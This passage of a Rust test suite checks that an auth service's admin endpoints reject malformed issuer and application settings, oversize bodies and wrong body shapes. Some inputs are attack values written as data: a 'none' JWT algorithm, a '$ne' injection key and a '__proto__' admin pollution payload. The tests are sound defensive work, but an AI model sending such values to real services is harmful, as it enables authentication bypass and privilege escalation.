            issuer("allowed_algorithms", json!("RS256")),
            "allowed_algorithms",
        ),
        (
            &issuers,
            issuer("allowed_algorithms", json!(["none"])),
            "allowed_algorithms",
        ),
        (
            &issuers,
            issuer("allowed_algorithms", json!(["HS256"])),
            "allowed_algorithms",
        ),
        (
            &issuers,
            issuer("allowed_algorithms", json!(["rs256"])),
            "allowed_algorithms",
        ),
        (
            &issuers,
            issuer("allowed_algorithms", json!([1])),
            "allowed_algorithms",
        ),
        (
            &issuers,
            issuer("require_jti", json!("true")),
            "require_jti",
        ),
        (&issuers, issuer("enabled", json!(1)), "enabled"),
        (
            &issuers,
            json!({"name": "n", "issuer": "https://i.example.com", "certificate": {"pem": "x"}}),
            "certificate",
        ),
        (&issuers, issuer("$ne", json!(1)), "$ne"),
        (
            &issuers,
            issuer("__proto__", json!({"admin": true})),
            "__proto__",
        ),
        (&issuers, issuer("id", json!("chosen-id")), "id"),
        (&apps, app("name", json!("n".repeat(129))), "name"),
        (&apps, app("type", json!("WEB")), "type"),
        (&apps, app("type", json!(["web"])), "type"),
        (
            &apps,
            app("grant_types", json!("refresh_token")),
            "grant_types",
        ),
        (
            &apps,
            app("grant_types", json!(["password"])),
            "grant_types",
        ),
        (
            &apps,
            app("grant_types", json!(["client_credentials"])),
            "grant_types",
        ),
        (
            &apps,
            app("access_token_ttl_seconds", json!(59)),
            "access_token_ttl_seconds",
        ),
        (
            &apps,
            app("access_token_ttl_seconds", json!(86_401)),
            "access_token_ttl_seconds",
        ),
        (
            &apps,
            app("access_token_ttl_seconds", json!("3600")),
            "access_token_ttl_seconds",
        ),
        (
            &apps,
            app("access_token_ttl_seconds", json!(3600.5)),
            "access_token_ttl_seconds",
        ),
        (
            &apps,
            app("refresh_token_ttl_seconds", json!(i64::MIN)),
            "refresh_token_ttl_seconds",
        ),
        (
            &apps,
            app("client_secret", json!("chosen")),
            "client_secret",
        ),
        (&apps, app("client_id", json!("chosen")), "client_id"),
    ];
    for (path, body, field) in cases {
        let reply = admin.post(path, body.clone()).await;
        let shown: String = body.to_string().chars().take(300).collect();
        assert!(
            reply.status == 400 && reply.body["field"] == json!(field),
            "{field}: {shown}: {} {:#}",
            reply.status,
            reply.body
        );
        assert!(
            !reply.body.to_string().contains(&"n".repeat(129)),
            "errors do not echo oversize input"
        );
    }
    // A field so large that the body passes 64 KiB: 413 before any parsing.
    let reply = admin
        .post(&issuers, issuer("name", json!("n".repeat(70_000))))
        .await;
    reply.assert_problem(413, None);
    // Whole-body shapes.
    for body in [json!([]), json!("x"), json!(1), json!(null)] {
        let reply = admin.post(&issuers, body.clone()).await;
        assert_eq!(reply.status, 400, "{body}: {:#}", reply.body);
    }
    // Nothing was written by any of the refused requests.
    let list = admin.get(&issuers).await;
    assert_eq!(list.body["items"], json!([]), "{:#}", list.body);
}
